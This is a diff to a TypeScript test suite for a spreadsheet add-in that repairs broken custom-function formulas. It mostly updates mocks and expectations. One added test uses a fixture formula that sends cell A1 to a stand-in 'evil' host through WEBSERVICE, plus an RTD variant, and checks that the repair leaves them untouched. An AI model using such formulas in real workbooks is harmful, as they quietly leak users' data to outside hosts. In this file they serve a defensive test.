@@ -20,15 +20,28 @@ const formulasOf = async (workbook: MemoryWorkbook): Promise<(string | null)[]> 
   return (await workbook.readRanges(used)).flat(2).map(({ formula }) => formula);
 };
 
-/** The workbook shows `#NAME?` wherever this says so; in memory nothing is worked out. */
-const showNames = (workbook: MemoryWorkbook, where: (formula: string) => boolean): void => {
+/**
+ * The workbook shows `#NAME?` wherever this says so, until the formula is entered again; in memory nothing is worked out.
+ * What is unknown stays so.
+ */
+const showNames = (
+  workbook: MemoryWorkbook,
+  where: (formula: string) => boolean,
+  unknown: (formula: string) => boolean = () => false,
+): void => {
+  const entered = new Set<string>();
+  const write = workbook.writeRanges.bind(workbook);
+  workbook.writeRanges = async (writes) => {
+    await write(writes);
+    for (const { cells } of writes) for (const cell of cells.flat()) if ('formula' in cell) entered.add(cell.formula);
+  };
+  const shows = (formula: string | null): boolean =>
+    formula !== null && (unknown(formula) || (where(formula) && !entered.has(formula)));
   const read = workbook.readRanges.bind(workbook);
   workbook.readRanges = async (ranges) =>
     (await read(ranges)).map((rows) =>
       rows.map((cells) =>
-        cells.map((cell) =>
-          cell.formula !== null && where(cell.formula) ? { ...cell, value: '#NAME?', text: '#NAME?' } : cell,
-        ),
+        cells.map((cell) => (shows(cell.formula) ? { ...cell, value: '#NAME?', text: '#NAME?' } : cell)),
       ),
     );
 };
@@ -76,7 +89,8 @@ describe('a workbook of 10,000 formulas, 3,000 of them ours in every broken form
     reads.mockClear();
     const steps: Progress[] = [];
     const report = await repairWorkbook(workbook, (step) => steps.push(step));
-    expect([reads.mock.calls.length, writes.mock.calls.length]).toEqual([1, 2]);
+    // All is read once, and what was written once more after each of two writes.
+    expect([reads.mock.calls.length, writes.mock.calls.length]).toEqual([3, 2]);
     expect(report).toMatchObject({ outcome: 'finished', formulas: 10_000, repaired: 3_000, emptied: 0, refused: [] });
     expect(report.faults['shows #NAME?']).toBe(600);
     const after = await formulasOf(workbook);
@@ -105,6 +119,7 @@ describe('a repair', () => {
       faults: { 'stored by Excel': 0, 'stored by Google Sheets': 0, 'with a namespace': 0, 'shows #NAME?': 0 },
       emptied: 0,
       left: [],
+      stuck: [],
       refused: [],
       steps: 0,
     });
@@ -167,6 +182,35 @@ describe('a repair', () => {
   it('hands on the sentence of a workbook that cannot be read', async () => {
     workbook.refusal = 'The workbook is busy.';
     await expect(repairWorkbook(workbook)).rejects.toThrow('The workbook is busy.');
+  });
+
+  it('does not count as repaired what shows #NAME? again, and names it', async () => {
+    await fill(workbook, 'Sheet1', [
+      ['=ICS_DEFICIT("LSC")+Nope', '=_xldudf_ICS_DEFICIT("LSC")*Nope', '=ICS_NAME("LSC")', '=_xldudf_ICS_CODE("LSC")'],
+    ]);
+    showNames(
+      workbook,
+      () => true,
+      (formula) => formula.includes('Nope'),
+    );
+    const report = await repairWorkbook(workbook);
+    expect(report).toMatchObject({ ours: 4, repaired: 2, left: [], steps: 1 });
+    expect(report.faults).toMatchObject({ 'shows #NAME?': 1, 'stored by Excel': 1 });
+    expect(report.stuck.map(({ cell, formula }) => [cell.column, formula])).toEqual([
+      [0, '=ICS_DEFICIT("LSC")+Nope'],
+      [1, '=ICS_DEFICIT("LSC")*Nope'],
+    ]);
+    expect(report.stuck[0]!.sentence).toMatch(/still shows #NAME\?/);
+  });
+
+  it('leaves what would reach out of the workbook once it is live, and names that', async () => {
+    const evil = frozen('ICS_DEFICIT(1)&WEBSERVICE("https://evil/?"&A1)');
+    const half = `=_xldudf_ICS_NAME("LSC")&IFERROR(__xludf.DUMMYFUNCTION("ICS_NAME(1)&RTD(""x"",,A1)"),"")`;
+    await fill(workbook, 'Sheet1', [[evil, half]]);
+    const report = await repairWorkbook(workbook);
+    expect(report).toMatchObject({ ours: 2, repaired: 0, steps: 0 });
+    expect(report.left.map(({ sentence }) => /use (\w+)/.exec(sentence)?.[1])).toEqual(['WEBSERVICE', 'RTD']);
+    expect(await formulasOf(workbook)).toEqual([evil, half]);
   });
 
   it('leaves the names of a copy that is loaded beside ours', async () => {
